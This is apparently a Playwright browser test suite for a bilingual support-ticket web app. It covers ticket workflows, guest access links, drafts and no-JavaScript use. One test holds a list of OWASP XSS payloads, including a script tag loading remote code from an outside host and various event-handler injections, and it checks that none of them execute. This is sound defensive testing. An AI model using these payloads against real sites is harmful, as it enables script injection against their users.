"""The seed article, followed step by step in Debian's Chromium: Spanish, English, a guest,
and the OWASP XSS payloads that must never run."""

from __future__ import annotations

import re
from typing import Any

import pytest
from browser_steps import log_in
from browser_words import TEXTS
from conftest import Person, mailed_key
from playwright.sync_api import expect

from supportdesk_dev.stack import LocalStack

pytestmark = pytest.mark.browser

ID = re.compile(r"^[A-Z]{3}-\d{6}$")




def select_in(page: Any, start: int, end: int) -> None:
    page.locator("#message").evaluate(f"t => {{ t.focus(); t.setSelectionRange({start}, {end}); }}")


@pytest.mark.parametrize("language", ["es", "en"])
def test_a_customer_follows_the_seed_from_login_to_a_reopened_ticket(
        live_server: str, page_in: Any, make_customer: Any, language: str) -> None:
    t = TEXTS[language]
    person = make_customer(services=("Hosting Pro — ana.es", "Dominio ana.es"), language=language)
    page = page_in(t["locale"])
    log_in(page, live_server, person, t)

    # Soporte > Abrir Ticket, then the Support department
    page.get_by_role("link", name=t["open"], exact=True).click()
    page.get_by_role("link", name=re.compile(t["support"])).click()
    page.get_by_label(t["subject"]).wait_for()
    assert page.get_by_label(t["priority"]).input_value() == "normal"  # Normal preselected
    assert page.locator("#name").input_value() == person.account.name  # from the account
    page.get_by_label(t["subject"]).fill("Error 500 en la tienda de ana.es desde las 10:00")
    page.get_by_label(t["service"]).select_option("Hosting Pro — ana.es")
    page.get_by_label(t["priority"]).select_option(label=t["low"])
    message = page.get_by_label(t["message"])
    message.fill("Importante: la tienda muestra un error.\nEl log dice:\nPHP Fatal error:  Allowed memory\n\tat line 42")
    select_in(page, 0, 10)
    page.get_by_role("button", name=t["bold"]).click()
    value = message.input_value()
    assert value.startswith("**Importante**")
    start = value.index("PHP Fatal")
    select_in(page, start, len(value))
    page.get_by_role("button", name=t["code"], exact=True).click()
    assert "```\nPHP Fatal error:  Allowed memory\n\tat line 42\n```" in message.input_value()

    page.get_by_role("button", name=t["fullscreen"]).click()
    assert "fullscreen" in (page.locator("[data-editor]").first.get_attribute("class") or "")
    page.keyboard.press("Escape")
    assert "fullscreen" not in (page.locator("[data-editor]").first.get_attribute("class") or "")

    page.get_by_role("button", name=t["preview"], exact=True).click()
    preview = page.locator("#preview .message-body")
    preview.locator("strong").wait_for()
    assert preview.locator("strong").inner_text() == "Importante"
    assert "\tat line 42" in preview.locator("pre code").inner_text()

    page.get_by_role("button", name=t["submit"], exact=True).click()
    created = page.locator("#created-ticket-id")
    created.wait_for()
    ticket_id = created.inner_text()
    assert ID.match(ticket_id)
    assert page.url.endswith(f"/ticket.html?id={ticket_id}")

    # find it in my tickets by its ID
    page.get_by_role("link", name=t["mine"], exact=True).click()
    page.get_by_label(t["search"]).fill(ticket_id)
    row_link = page.locator("#ticket-rows a.ticket-id")
    page.wait_for_function("n => document.querySelectorAll('#ticket-rows a.ticket-id').length === n", arg=1)
    assert row_link.inner_text() == ticket_id
    row_link.click()
    page.locator("h1", has_text="Error 500 en la tienda").wait_for()

    page.get_by_label(t["message"]).fill("También falla el **panel**.")
    page.get_by_role("button", name=t["reply"]).click()
    page.locator(".message-body strong", has_text="panel").wait_for()

    page.get_by_role("button", name=t["close"]).click()
    page.get_by_role("button", name=t["sure"]).click()
    page.locator("#ticket-status", has_text=t["closed"]).wait_for()
    page.get_by_label(t["message"]).fill("Vuelve a fallar desde las 18:00.")
    page.get_by_role("button", name=t["reopen"]).click()
    page.locator("#ticket-status", has_text=t["reopened status"]).wait_for()
    assert page.locator(".thread > li.message").count() == 3


def test_a_guest_opens_a_sales_ticket_confirms_the_address_and_follows_its_link(
        live_server: str, page_in: Any, stack: Any) -> None:
    page = page_in("es-ES")
    page.goto(live_server + "/departments.html")
    page.get_by_role("link", name=re.compile("Ventas")).click()
    page.get_by_label("Nombre").fill("Bea Invitada")
    address = f"bea.browser.{id(page)}@example.org"
    page.get_by_label("Correo electrónico").fill(address)
    page.get_by_label("Asunto").fill("Precio del VPS de 4 GB con pago anual")
    page.get_by_label("Mensaje").fill("Quisiera saber si hay descuento por pagar el VPS de 4 GB un año entero.")
    page.get_by_role("button", name="Enviar", exact=True).click()
    ticket_id = page.locator("#created-ticket-id").inner_text()
    page.get_by_role("heading", name="Confirme su dirección de correo").wait_for()

    # The mailbox: the link in the confirmation, opened where the mail is read.
    link = f"{live_server}/ticket.html?id={ticket_id}&key={mailed_key(stack, ticket_id)}"
    mailbox = page_in("es-ES")
    mailbox.goto(link)
    mailbox.get_by_role("button", name="Confirmar mi dirección").click()
    mailbox.locator("#confirm-address").wait_for(state="detached")
    mailbox.locator("h1", has_text="Precio del VPS").wait_for()

    later = page_in("es-ES")  # another day, another browser: only the link opens it
    later.goto(link)
    later.locator("h1", has_text="Precio del VPS").wait_for()
    assert later.locator("#confirm-address").count() == 0
    without_key = link.split("&key=")[0]
    later.goto(without_key)
    # Without its key, signed out: the page says to log in (nothing of the ticket), with the header.
    later.locator("#page [data-reason=ticket-login]").wait_for()


def test_the_seeds_advice_appears_while_typing_and_the_draft_survives_a_reload(
        live_server: str, page_in: Any, customer: Person) -> None:
    t = TEXTS["es"]
    page = page_in(t["locale"])
    log_in(page, live_server, customer, t)
    page.goto(live_server + "/new.html?department=support")
    page.get_by_label("Asunto").fill("Ayuda")
    page.locator("#subject-generic").wait_for()
    page.get_by_label("Mensaje").fill("Ayuda, tengo un problema")
    assert page.locator("#message-coach").is_visible()
    page.get_by_label("Mensaje").fill("Desde esta mañana el sitio ana.es responde con un error 503 y el "
                                      "panel de control no carga las estadísticas.")
    assert not page.locator("#message-coach").is_visible()
    page.get_by_label("Asunto").fill("Error 503 en ana.es desde esta mañana")
    page.get_by_label("Prioridad").select_option("high")
    page.reload()
    # the draft comes back once the form has settled in
    expect(page.get_by_label("Asunto")).to_have_value("Error 503 en ana.es desde esta mañana")
    expect(page.get_by_label("Mensaje")).to_have_value(re.compile("^Desde esta mañana"))
    expect(page.get_by_label("Prioridad")).to_have_value("high")


# Payloads of the OWASP XSS Filter Evasion Cheat Sheet, in the subject and the message.
XSS = [
    "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<iframe src=javascript:alert('XSS')></iframe>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(2)>",
    "<a href=\"javascript:alert(3)\">click</a>",
    "[click](javascript:alert(4))",
    "<div hx-get=\"/api/logout\" hx-trigger=\"load\">x</div>",
    "<details open ontoggle=alert(5)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(6)>",
]


def test_xss_payloads_never_run_anywhere_they_are_shown(live_server: str, page_in: Any,
                                                          customer: Person, stack: LocalStack) -> None:
    t = TEXTS["es"]
    page = page_in(t["locale"])
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    log_in(page, live_server, customer, t)
    ticket_ids = []
    for number, payload in enumerate(XSS):
        page.goto(live_server + "/new.html?department=support")
        page.get_by_label("Asunto").fill(payload[:190])
        page.get_by_label("Mensaje").fill(f"Caso {number}:\n\n{payload}\n\n" + "\n\n".join(XSS))
        if number == 0:
            page.get_by_role("button", name="Previsualizar").click()
            page.locator("#preview .message-body").wait_for()
        page.get_by_role("button", name="Enviar", exact=True).click()
        page.locator("#created-ticket-id").wait_for()
        ticket_ids.append(page.locator("#created-ticket-id").inner_text())
        shown = page.locator("main h1").inner_text()
        assert shown == " ".join(payload[:190].split())  # the subject appears as text
    # Each check waits first for a sign that the hostile text was rendered, so a page that
    # never renders fails instead of passing for want of anything to run.
    stack.deliver_events()  # the notifier indexes the words a moment after each ticket
    page.goto(live_server + "/tickets.html")
    rows = page.locator("#ticket-rows a.ticket-id")
    expect(rows).to_have_count(len(XSS))
    # The search's answer replaces the list: a new table, without the mark the old one has.
    page.locator("#ticket-rows table").evaluate("table => { table.dataset.before = 'search'; }")
    page.get_by_label("Buscar por ID de ticket, asunto o texto").fill("script")
    expect(page.locator("#ticket-rows table:not([data-before])")).to_be_visible()
    expect(rows).to_have_count(len(XSS))  # every message holds the payloads, as text
    assert injected_elements(page) == 0
    for number, ticket_id in enumerate(ticket_ids[:3]):
        page.goto(f"{live_server}/ticket.html?id={ticket_id}")
        hostile = page.locator(".thread .message-body", has_text=f"Caso {number}:")
        expect(hostile).to_contain_text(XSS[number])
        assert injected_elements(page) == 0
    assert dialogs == []


def injected_elements(page: Any) -> int:
    """How many elements that can run script the shown tickets' texts became (must be none)."""
    return int(page.evaluate("""() => {
        const bodies = [...document.querySelectorAll('.message-body, main h1, #ticket-rows')];
        return bodies.flatMap(b => [...b.querySelectorAll('script, img, svg, iframe, body, details, math, style, [hx-get], [onerror], [onload], [onmouseover], a[href^="javascript" i]')]).length;
    }"""))


def test_without_javascript_every_step_still_works(live_server: str, browser: Any,
                                                   customer: Person) -> None:
    context = browser.new_context(locale="es-ES", java_script_enabled=False)
    try:
        page = context.new_page()
        page.set_default_timeout(10_000)
        page.goto(live_server + "/")
        page.get_by_label("Correo electrónico").wait_for()  # the static page forwarded us
        page.get_by_label("Correo electrónico").fill(customer.email)
        page.get_by_label("Contraseña").fill(customer.password)
        page.get_by_role("button", name="Ingresar").click()
        page.locator("#greeting").wait_for()
        page.get_by_role("link", name="Abrir un ticket").click()
        page.get_by_role("link", name=re.compile("Soporte")).click()
        page.get_by_label("Asunto").fill("Sin JavaScript también funciona")
        page.get_by_label("Mensaje").fill("Prueba con **negrita** desde un navegador sin JavaScript.")
        page.get_by_role("button", name="Previsualizar").click()
        page.locator("#preview strong", has_text="negrita").wait_for()
        assert page.get_by_label("Asunto").input_value() == "Sin JavaScript también funciona"
        page.get_by_role("button", name="Enviar", exact=True).click()
        ticket_id = page.locator("#created-ticket-id").inner_text()
        assert ID.match(ticket_id)
        page.get_by_role("link", name="Mis tickets", exact=True).click()
        page.get_by_label("Buscar por ID de ticket, asunto o texto").fill(ticket_id)
        page.get_by_role("button", name="Buscar").click()
        page.locator("a.ticket-id", has_text=ticket_id).click()
        page.get_by_label("Mensaje").fill("Un dato más.")
        page.get_by_role("button", name="Enviar respuesta").click()
        page.locator(".message-body", has_text="Un dato más.").wait_for()
        page.get_by_role("button", name="Cerrar ticket").click()
        page.get_by_role("button", name="Sí, cerrar el ticket").click()
        page.locator("#ticket-status", has_text="Cerrado").wait_for()
    finally:
        context.close()
